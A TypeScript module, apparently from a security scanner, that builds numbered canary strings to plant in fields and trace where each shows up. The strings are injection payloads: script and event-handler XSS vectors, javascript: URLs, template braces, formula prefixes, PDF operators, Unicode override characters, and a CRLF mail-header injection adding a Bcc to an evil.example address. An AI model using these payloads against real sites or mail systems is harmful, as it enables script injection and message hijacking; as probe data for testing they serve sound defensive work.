/** What stands in every planted text, with a number of its own: it says which field a text came from, wherever it shows up. */
export const markPattern = /mk\d{4}z/gi

/** The mark of a number. */
export const markOf = (number: number): string => `mk${String(number).padStart(4, '0')}z`

/**
 * Texts with markup of every context that a text may be put into, the richest first: a field gets the first that it takes.
 * Each begins as a formula does, and names its mark in every element, attribute and operator that it would become.
 */
export function textsWith(mark: string): readonly string[] {
  const line = `=${mark}"><script>${mark}()</script><img src=x onerror=${mark}()>'><x-${mark} onclick=${mark}()>{{${mark}}}`
  return [
    // Several lines: headers of a mail, the ends of elements that hold plain text, operators of a PDF, odd ends of lines.
    [
      `${line}</style></title></textarea></script>]]>--><a href="javascript:${mark}()">x</a>`,
      `Bcc: ${mark}@evil.example`,
      `X-${mark}: 1`,
      `) Tj (${mark}) \u2028${mark}\u2029\u202e${mark}`,
      '',
      `<svg/onload=${mark}()><iframe srcdoc="<script>${mark}()</script>"></iframe>`,
    ].join('\r\n'),
    `${line}</title>]]>-->) Tj (\u2028\u202e`,
    `=${mark}"><script>${mark}()</script><img src=x onerror=${mark}()>`,
    `=${mark}"><x-${mark} onclick=1>`,
    `=${mark}"><s>`,
    `javascript:${mark}()//https://x.example/`,
    `https://x.example/${mark}?a="><x-${mark} onclick=1>'`,
    `/${mark}"><x-${mark} onclick=1>`,
    `${mark}'{x}@example.org`,
    mark,
  ]
}
